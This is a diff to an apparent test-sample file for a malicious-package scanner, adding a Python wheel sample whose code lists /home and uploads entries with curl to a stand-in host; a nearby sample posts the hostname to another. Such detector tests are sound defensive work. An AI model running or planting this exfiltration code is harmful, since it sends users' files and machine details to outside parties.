@@ -105,6 +105,13 @@ export const PYTHON: Samples['malicious'] = [
     expected: [{ rule: 'files', file: 'own/__init__.py', line: 3, severity: 'high' }],
   },
   {
+    name: 'Python: files that a folder lists, by a program that is told their paths',
+    files: wheel(
+      'import os, subprocess\nfrom pathlib import Path\nfor name in os.listdir("/home"):\n    subprocess.run(["curl", "-F", f"f=@{Path(name)}", "https://a.weir.test/x"])\n',
+    ),
+    expected: [{ rule: 'files', file: 'own/__init__.py', line: 4, severity: 'high' }],
+  },
+  {
     name: 'Python: the name of the machine to a free host, in a function',
     files: wheel(
       'import platform, requests\ndef hello():\n    requests.post("https://own.free.weir.test/in", json={"on": platform.node()})\n',
